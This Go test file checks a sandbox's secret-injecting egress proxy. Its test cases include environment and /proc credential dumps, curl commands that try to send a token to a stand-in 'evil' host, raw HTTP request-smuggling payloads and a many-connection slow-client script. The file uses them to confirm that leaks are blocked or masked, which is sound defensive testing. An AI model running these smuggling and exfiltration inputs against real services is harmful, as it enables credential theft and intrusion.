package egress

import (
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mcpbox/mcpbox/internal/testnet"
	"github.com/mcpbox/mcpbox/monitor"
)

const token = "ghp_Tr0ub4dor&3/=+<secret>"

// wanted is what the world's servers were asked, one line a request.
type wanted struct {
	mu  sync.Mutex
	all []string
}

func (s *wanted) add(r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.all = append(s.all, fmt.Sprintf("%s %s %s%s auth=%q "+
		"key=%q", r.Proto, r.Method, r.Host, r.RequestURI,
		r.Header.Get("Authorization"), r.Header.Get("X-Key")))
}

func (s *wanted) list() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.all...)
}

// secretive is a world in which api, at port 8443, wants a token, and tells what it was sent in
// many ways.
func secretive(t testing.TB) (*world, *wanted) {
	w := newWorld(t)
	asked := &wanted{}
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(rw http.ResponseWriter, r *http.Request) {
		asked.add(r)
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(rw, "welcome by %s, %d bytes\n", r.Proto, len(body))
	})
	mux.HandleFunc("/echo", func(rw http.ResponseWriter, r *http.Request) {
		asked.add(r)
		auth := r.Header.Get("Authorization")
		rw.Header().Set("X-Echo", auth)
		rw.Header().Set("Trailer", "X-Trailer")
		fmt.Fprintf(rw, "plain %s url %s\n", auth, r.URL.RawQuery)
		for _, c := range auth { // each byte in a chunk of its own
			fmt.Fprintf(rw, "%c", c)
			rw.(http.Flusher).Flush()
		}
		fmt.Fprintf(rw, "\nbase64 %s\n",
			base64.StdEncoding.EncodeToString([]byte("{\"auth\":\""+auth+"\"}")))
		rw.Header().Set("X-Trailer", auth)
	})
	mux.HandleFunc("/early", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Link", "</"+r.Header.Get("Authorization")+">")
		rw.WriteHeader(http.StatusEarlyHints)
		rw.Header().Del("Link")
		fmt.Fprintln(rw, "late")
	})
	mux.HandleFunc("/gzip", func(rw http.ResponseWriter,
		r *http.Request) { // whatever was asked for
		rw.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(rw)
		fmt.Fprintf(z, "packed %s\n", r.Header.Get("Authorization"))
		z.Close()
	})
	mux.HandleFunc("/br", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Encoding", "br")
		fmt.Fprintf(rw, "unreadable %s\n", r.Header.Get("Authorization"))
	})
	mux.HandleFunc("/away", func(rw http.ResponseWriter, r *http.Request) {
		http.Redirect(rw, r, "https://"+evil+":8443/caught", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/same", func(rw http.ResponseWriter, r *http.Request) { // the query goes along
		http.Redirect(rw, r, "https://"+api+":8443/there?"+r.URL.RawQuery,
			http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/events", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/event-stream")
		for i := range 3 {
			fmt.Fprintf(rw, "data: %d\n\n", i)
			rw.(http.Flusher).Flush()
			time.Sleep(20 * time.Millisecond)
		}
	})
	mux.HandleFunc("/ws", websocketEcho)
	for _, name := range []string{api, evil} {
		addr := testnet.Public
		if name == evil {
			addr = testnet.Other
		}
		server := &http.Server{Handler: mux, TLSConfig: w.CA.Server(name),
			ErrorLog: log.New(io.Discard, "", 0)}
		go server.ServeTLS(w.Listen(addr+":8443"), "", "")
		t.Cleanup(func() { server.Close() })
	}
	return w, asked
}

// websocketEcho switches protocols, and sends the token in a frame.
func websocketEcho(rw http.ResponseWriter, r *http.Request) {
	conn, rd, err := http.NewResponseController(rw).Hijack()
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	defer conn.Close()
	fmt.Fprintf(conn,
		"HTTP/1.1 101 Switching Protocols\r\nUpgrade: %s\r\nConnection: Upgrade\r\n\r\n",
		r.Header.Get("Upgrade"))
	auth := r.Header.Get("Authorization")
	conn.Write(append([]byte{0x81, byte(len(auth))}, auth...))
	line, _ := rd.ReadString('\n')
	fmt.Fprintf(conn, "echo %s", line)
}

// bound is a policy with one secret, at api's port 8443, and with evil allowed beside it.
func (w *world) bound(place string) []string {
	return w.policy(`network: {mode: allow, allow: ["` + api + `:8443", "` + evil + `:8443"]}
secrets: [{name: TOKEN, hosts: ["` + api + `:8443"], ` + place + `}]
`)
}

func (w *world) policy(text string) []string {
	w.t.Helper()
	file := filepath.Join(w.t.TempDir(), "policy.yaml")
	if err := os.WriteFile(file, []byte("version: 1\nextends: standard\n"+text),
		0o644); err != nil {
		w.t.Fatal(err)
	}
	return []string{"--policy", file}
}

// masked is what the body of a response has in the place of the header.
var masked = "Bearer " + strings.Repeat("*", len(token))

const bearer = `header: Authorization, format: "Bearer {secret}"`

// use runs a command that may use the token; the supervisor trusts the world's authority.
func (w *world) use(flags []string, command ...string) *ran {
	w.t.Helper()
	w.env = []string{"TOKEN_OUTSIDE=" + token, "SSL_CERT_FILE=" + w.CA.File}
	defer func() { w.env = nil }()
	all := append(append([]string(nil), flags...), "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--")
	r := w.run(0, nil, append(all, command...)...)
	for what, text := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
		if strings.Contains(text, token) || strings.Contains(text, "Tr0ub4dor") {
			w.t.Errorf("the secret is in %s: %s", what, text)
		}
	}
	return r
}

func TestTheToolNeverHasTheSecretAndTheHostDoes(t *testing.T) {
	w, asked := secretive(t)
	for _, version := range []string{"--http1.1", "--http2"} {
		before := len(asked.list())
		r := w.use(w.bound(bearer), "sh", "-c",
			`curl -sS -m 20 `+version+` -d hello -H "Authorization: Bearer $TOKEN" `+
				`https://`+api+`:8443/x; echo "$TOKEN"; env; cat /proc/*/environ `+
				`/proc/*/cmdline | tr '\0' '\n'`)
		if !strings.Contains(r.stdout, "5 bytes") || !strings.Contains(r.stdout, "mcpbox_TOKEN_") {
			t.Fatalf("%s%s", r.stdout, r.stderr)
		}
		got := asked.list()[before:]
		if len(got) != 1 || !strings.Contains(got[0],
			`POST `+api+`:8443/x auth="Bearer `+token+`"`) {
			t.Errorf("the host was asked %q", got)
		}
		if len(r.result.Events) > 0 {
			t.Errorf("event: %s", r.result.Events[0].Summary())
		}
		if n := r.result.Network; len(n) != 1 || n[0].Host != api || n[0].Port != 8443 ||
			n[0].Sent == 0 || n[0].Received == 0 {
			t.Errorf("network %+v", n)
		}
	}
}

func TestASecretGoesWhereThePolicySays(t *testing.T) {
	w, asked := secretive(t)
	escaped := "ghp_Tr0ub4dor%263%2F%3D%2B%3Csecret%3E"
	for place, c := range map[string]struct{ command, want string }{
		`header: X-Key`: {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`,
			`key="` + token + `"`},
		`header: x-key`: {`curl -sS -m 20 --http2 -H "X-Key: a $TOKEN b" https://` + api +
			`:8443/`, `key="a ` + token + ` b"`},
		`basic: true`: {`curl -sS -m 20 -u "me:$TOKEN" https://` + api + `:8443/`,
			`auth="Basic ` + base64.StdEncoding.EncodeToString([]byte("me:"+token)) + `"`},
		`query: key, basic: true`: {`curl -sS -m 20 "https://` + api + `:8443/?a=1&key=$TOKEN&b"`,
			`/?a=1&key=` + escaped + `&b`},
	} {
		before := len(asked.list())
		r := w.use(w.bound(place), "sh", "-c", c.command)
		if got := strings.Join(asked.list()[before:], "\n"); !strings.Contains(got, c.want) ||
			len(r.result.Events) > 0 {
			t.Errorf("%s: the host was asked %s\n%s%s", place, got, r.stdout, r.stderr)
		}
	}
}

func TestAnEchoIsMasked(t *testing.T) {
	w, _ := secretive(t)
	for _, version := range []string{"--http1.1", "--http2"} {
		for path, want := range map[string]string{"/echo": "plain " + masked,
			"/early": "</Bearer mcpbox_TOKEN_", "/gzip": "packed " + masked} {
			r := w.use(w.bound(bearer), "sh", "-c",
				`curl -sS -m 20 -i --raw `+version+` -H "Authorization: Bearer $TOKEN" `+
					`https://`+api+`:8443`+path)
			if !strings.Contains(r.stdout, want) {
				t.Errorf("%s %s: %s%s", version, path, r.stdout, r.stderr)
			}
			if strings.Contains(r.stdout, base64.StdEncoding.EncodeToString([]byte(token))[4:20]) {
				t.Errorf("%s %s: in base64: %s", version, path, r.stdout)
			}
			if e := r.event("egress:echo"); e == nil || e.Type != monitor.SuspiciousBehavior ||
				e.Network.Name != api {
				t.Errorf("%s %s: event %+v", version, path, e)
			}
		}
	}
	r := w.use(w.bound(bearer), "sh", "-c",
		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/br`)
	if strings.Contains(r.stdout, "unreadable") || r.event("egress:http") == nil {
		t.Errorf("a compressed echo: %s%s", r.stdout, r.stderr)
	}
	r = w.use(w.bound("query: key"), "sh", "-c",
		`curl -sS -m 20 "https://`+api+`:8443/echo?key=$TOKEN"`)
	if strings.Contains(r.stdout, "Tr0ub4dor") || r.event("egress:echo") == nil {
		t.Errorf("in a URL: %s%s", r.stdout, r.stderr)
	}
}

// A redirect that has the secret in its URL leads to the same place, with the placeholder.
func TestARedirectWithTheSecretWorks(t *testing.T) {
	w, asked := secretive(t)
	r := w.use(w.bound("query: key"), "sh", "-c",
		`curl -sS -m 20 -L "https://`+api+`:8443/same?key=$TOKEN"`)
	got := strings.Join(asked.list(), "\n")
	if !strings.Contains(got, "/there?key=ghp_Tr0ub4dor%26") ||
		!strings.Contains(r.stdout, "welcome") {
		t.Errorf("%s%s\n%s", r.stdout, r.stderr, got)
	}
}

func TestThePlaceholderIsWorthNothingElsewhere(t *testing.T) {
	w, asked := secretive(t)
	for what, c := range map[string]struct{ command, rule string }{
		"another host": {`curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://` + evil +
			`:8443/`, ""},
		"another header": {`curl -sS -m 20 -H "X-Key: $TOKEN" https://` + api + `:8443/`,
			"egress:secret"},
		"the URL": {`curl -sS -m 20 "https://` + api + `:8443/?key=$TOKEN"`,
			"egress:secret"},
		"the body": {`curl -sS -m 20 -d "$TOKEN" https://` + api + `:8443/`, ""},
		"a redirect": {`curl -sS -m 20 -L --location-trusted -H "Authorization: Bearer $TOKEN" ` +
			`https://` + api + `:8443/away`, ""},
		"another name's SNI": {`curl -sS -m 20 --connect-to ` + evil + `:8443:` + api +
			`:8443 -H "Authorization: Bearer $TOKEN" https://` + evil + `:8443/`, "egress:sni"},
		"Host is not SNI": {`curl -sS -m 20 -H "Host: ` + evil +
			`" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
		"Host is not SNI, 2": {`curl -sS -m 20 --http2 -H "Host: ` + evil +
			`:8443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
		"another port": {`curl -sS -m 20 -H "Host: ` + api +
			`:443" -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/`, "egress:host"},
	} {
		// Inside, the world's authority is trusted too: for hosts whose requests are not read.
		before := len(asked.list())
		r := w.use(append(w.bound(bearer), "--mount", w.dir+":/data"), "sh", "-c",
			`cat /data/ca.pem /.ca-certificates.crt > /tmp/ca.pem; export `+
				`CURL_CA_BUNDLE=/tmp/ca.pem; `+c.command)
		got := asked.list()[before:]
		for _, line := range got {
			if strings.Contains(line, "Tr0ub4dor") && what != "a redirect" || strings.Contains(line,
				evil) && strings.Contains(line, "Tr0ub4dor") {
				t.Errorf("%s: the secret went there: %s", what, line)
			}
		}
		if c.rule == "" && len(got) == 0 {
			t.Errorf("%s: nothing was asked: %s%s", what, r.stdout, r.stderr)
		}
		if c.rule != "" && r.event(c.rule) == nil {
			t.Errorf("%s: no event of %s: %s%s", what, c.rule, r.stdout, r.stderr)
		}
	}
}

// raw speaks for itself over a TLS connection to api, as smugglers do. It prints what comes back.
const raw = `
import os, socket, ssl, sys
c = ssl.create_default_context(cafile="/.ca-certificates.crt")
s = c.wrap_socket(socket.create_connection(("` + api + `", 8443), 20), ` +
	`server_hostname="` + api + `"); s.settimeout(5)
ask = [part.replace("TOKEN", ` +
	`os.environ["TOKEN"]).encode().decode("unicode_escape").encode("latin1") for part in ` +
	`sys.argv[1:]]
s.sendall(ask[0])
out = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        out += d
        if len(ask) > 1: s.sendall(ask.pop()) # when the answer has come
except OSError as e: print("end", type(e).__name__)
print(out.decode("latin1"))
`

func TestRequestsAreNotSmuggled(t *testing.T) {
	w, asked := secretive(t)
	host := `Host: ` + api + `:8443\r\n`
	hidden := `GET /hidden HTTP/1.1\r\nHost: ` + evil + `\r\nAuthorization: Bearer TOKEN\r\n\r\n`
	for what, ask := range map[string]string{
		"two lengths": `POST / HTTP/1.1\r\n` + host +
			`Content-Length: 0\r\nContent-Length: 90\r\n\r\n` + hidden,
		"length and chunks": `POST / HTTP/1.1\r\n` + host +
			`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + hidden,
		"an unknown encoding": `POST / HTTP/1.1\r\n` + host +
			`Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + hidden,
		"chunked twice": `POST / HTTP/1.1\r\n` + host +
			`Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n` + hidden,
		"a folded header": `POST / HTTP/1.1\r\n` + host +
			`X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
		"a space before colon": `POST / HTTP/1.1\r\n` + host +
			`Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n` + hidden,
		"two hosts": `GET / HTTP/1.1\r\n` + host + `Host: ` + evil +
			`\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
		"an absolute target": `GET https://` + evil + `/ HTTP/1.1\r\n` + host +
			`Authorization: Bearer TOKEN\r\n\r\n`,
		"a line feed in a value": `GET / HTTP/1.1\r\n` + host + `X: a\nHost: ` + evil +
			`\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
		"the header is the connection's": `GET / HTTP/1.1\r\n` + host +
			`Connection: close, Host\r\nAuthorization: Bearer TOKEN\r\n\r\n`,
		"a target without a slash": `GET https:hidden HTTP/1.1\r\n` + host +
			`Authorization: Bearer TOKEN\r\n\r\n`,
		"a target with a user": `GET https://` + api + `:8443@` + evil + `/hidden HTTP/1.1\r\n` +
			host + `Authorization: Bearer TOKEN\r\n\r\n`,
		"CONNECT": `CONNECT ` + evil + `:8443 HTTP/1.1\r\n` + `Host: ` +
			evil + `:8443\r\nAuthorization: Bearer TOKEN\r\n\r\n` + hidden,
		"CONNECT to the host": `CONNECT ` + api + `:8443 HTTP/1.1\r\n` + host + `\r\n` + hidden,
		"HTTP/2 in the clear": `GET / HTTP/1.1\r\n` + host +
			`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: ` +
			`AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` + hidden,
	} {
		before := len(asked.list())
		r := w.use(w.bound(bearer), "python3", "-c", raw, ask)
		for _, line := range asked.list()[before:] {
			if strings.Contains(line, evil) || strings.Contains(line, "/hidden") {
				t.Errorf("%s: the host was asked %s\n%s", what, line, r.stdout)
			}
		}
		if strings.Contains(r.stdout, "101 Switching") || r.stdout == "" {
			t.Errorf("%s: %s%s", what, r.stdout, r.stderr)
		}
	}
}

func TestAWebSocketPassesMasked(t *testing.T) {
	w, _ := secretive(t)
	ask := `GET /ws HTTP/1.1\r\nHost: ` + api +
		`:8443\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: ` +
		`permessage-deflate\r\nAuthorization: Bearer TOKEN\r\n\r\n`
	r := w.use(w.bound(bearer), "python3", "-c", raw, ask, `hello there\n`)
	if !strings.Contains(r.stdout, "101 Switching") || !strings.Contains(r.stdout,
		"Bearer "+strings.Repeat("*", len(token))+"echo hello there") ||
		r.event("egress:echo") == nil {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
	r = w.use(w.bound(bearer), "python3", "-c", raw, strings.Replace(ask, "Upgrade: websocket",
		"Upgrade: other", 1), `hello there\n`)
	if strings.Contains(r.stdout, "echo hello") {
		t.Errorf("another protocol: %s%s", r.stdout, r.stderr)
	}
}

func TestEventsOfAServerComeAtOnce(t *testing.T) {
	w, _ := secretive(t)
	r := w.use(w.bound(bearer), "sh", "-c",
		`curl -sSN -m 20 -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/events`)
	if strings.Count(r.stdout, "data: ") != 3 || len(r.result.Events) > 0 {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}

func TestMethodsAreHeldTo(t *testing.T) {
	w, asked := secretive(t)
	flags := w.policy(`network: {mode: allow, allow: [{host: ` + api + `, ports: [8443, 80], ` +
		`methods: [GET, HEAD]}]}
`)
	for _, c := range []struct{ command, want, rule string }{
		{`curl -sS -m 20 https://` + api + `:8443/`, "welcome", ""},
		{`curl -sS -m 20 --http1.1 https://` + api + `:8443/`, "welcome", ""},
		{`curl -sS -m 20 -d x https://` + api + `:8443/`, "does not allow this method",
			"egress:method"},
		{`curl -sS -m 20 -X DELETE https://` + api + `:8443/`, "does not allow this method",
			"egress:method"},
		{`curl -sS -m 20 http://` + api + `/`, "this is api", ""},
		{`curl -sS -m 20 -d x http://` + api + `/`, "does not allow this method", "egress:method"},
		{`curl -sS -m 20 -H 'Host: ` + evil + `' http://` + api + `/`, "another host",
			"egress:host"},
	} {
		before := len(asked.list())
		w.env = []string{"SSL_CERT_FILE=" + w.CA.File}
		r := w.run(0, nil, append(append([]string(nil), flags...), "--", "sh", "-c", c.command)...)
		if !strings.Contains(r.stdout, c.want) || c.rule != "" && r.event(c.rule) == nil ||
			c.rule == "" && len(r.result.Events) > 0 {
			t.Errorf("%s: %s%s", c.command, r.stdout, r.stderr)
		}
		if got := asked.list()[before:]; c.rule != "" && len(got) > 0 {
			t.Errorf("%s: the host was asked %s", c.command, got)
		}
	}
}

// A host whose certificate nobody vouches for gets no secret.
func TestTheRealHostIsVerified(t *testing.T) {
	w, asked := secretive(t)
	w.env = []string{"TOKEN_OUTSIDE=" + token} // the world's authority is not trusted
	r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "sh",
		"-c", `curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)...)
	if !strings.Contains(r.stdout, "502") || len(asked.list()) > 0 ||
		r.event("egress:unreachable") == nil {
		t.Errorf("%s%s: %s", r.stdout, r.stderr, asked.list())
	}
	w.Names.Set(api, testnet.Private) // nor does one that the name must not lead to
	w.Listen(testnet.Private + ":8443")
	r = w.use(w.bound(bearer), "sh", "-c",
		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)
	if !strings.Contains(r.stdout, "502") || r.event("egress:private") == nil {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}

func TestASecretIsNotGivenToTheToolByMistake(t *testing.T) {
	w, _ := secretive(t)
	w.env = []string{"TOKEN_OUTSIDE=" + token, "SSL_CERT_FILE=" + w.CA.File}
	w.file("token", token+"\n")
	for _, c := range []struct {
		flags []string
		want  string
	}{
		{[]string{"--env", "TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "true"},
			"TOKEN_OUTSIDE contains the secret TOKEN"},
		{[]string{"--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "echo", token},
			"argument 1 contains the secret TOKEN"},
		{[]string{"--mount", w.dir + ":/data", "--secret", "TOKEN=file:" + w.dir + "/token", "--",
			"true"}, "which the tool can read"},
		{[]string{"--secret", "TOKEN=" + token, "--", "true"},
			"that is a value or an unknown source"},
		{[]string{"--secret", "TOKEN=env:NOWHERE", "--", "true"}, "NOWHERE is not set"},
		{[]string{"--secret", "TOKEN=cmd:exit 3", "--", "true"}, "the command failed"},
		{[]string{"--secret", "TOKEN=cmd:echo short", "--", "true"}, "fewer than 8"},
		{[]string{"--secret", "OTHER=env:TOKEN_OUTSIDE", "--secret", "TOKEN=env:TOKEN_OUTSIDE",
			"--", "true"}, "has no secret OTHER"},
		{[]string{"--", "true"}, "--secret TOKEN=env:VARIABLE"},
	} {
		r := w.run(0, nil, append(w.bound(bearer), c.flags...)...)
		if r.code != 125 || !strings.Contains(r.stderr, c.want) || strings.Contains(r.stderr,
			"Tr0ub4dor") {
			t.Errorf("%v: %d %s", c.flags, r.code, r.stderr)
		}
	}
	for _, source := range []string{"cmd:printf %s " +
		"\"$TOKEN_OUTSIDE\"", "file:" + w.dir + "/token"} {
		if r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN="+source, "--",
			"true")...); r.code != 0 {
			t.Errorf("%s: %s", source, r.stderr)
		}
	}
}

// A client that sends its request a byte at a time, or none, gets nowhere and holds nobody up.
func TestSlowClientsHoldNobodyUp(t *testing.T) {
	w, _ := secretive(t)
	r := w.use(w.bound(bearer), "python3", "-c", `
import os, socket, ssl, subprocess
c = ssl.create_default_context(cafile="/.ca-certificates.crt")
slow = []
for i in range(200):
    s = socket.create_connection(("`+api+`", 8443), 20)
    if i % 2: s.send(b"\x16\3\1")
    else:
        s = c.wrap_socket(s, server_hostname="`+api+`"); s.send(b"GET / HTTP/1.1\r\nHo")
    slow.append(s)
print(subprocess.run(["curl", "-sS", "-m", "10", "-H", "Authorization: Bearer " + `+
		`os.environ["TOKEN"], "https://`+api+`:8443/"], capture_output=True).stdout)
for s in slow[:4]:
    s.settimeout(40)
    try: print("closed" if len(s.recv(1000)) < 1000 else "open")
    except OSError as e: print("closed", type(e).__name__)
`)
	if !strings.Contains(r.stdout, "welcome") || strings.Count(r.stdout, "closed") != 4 {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}
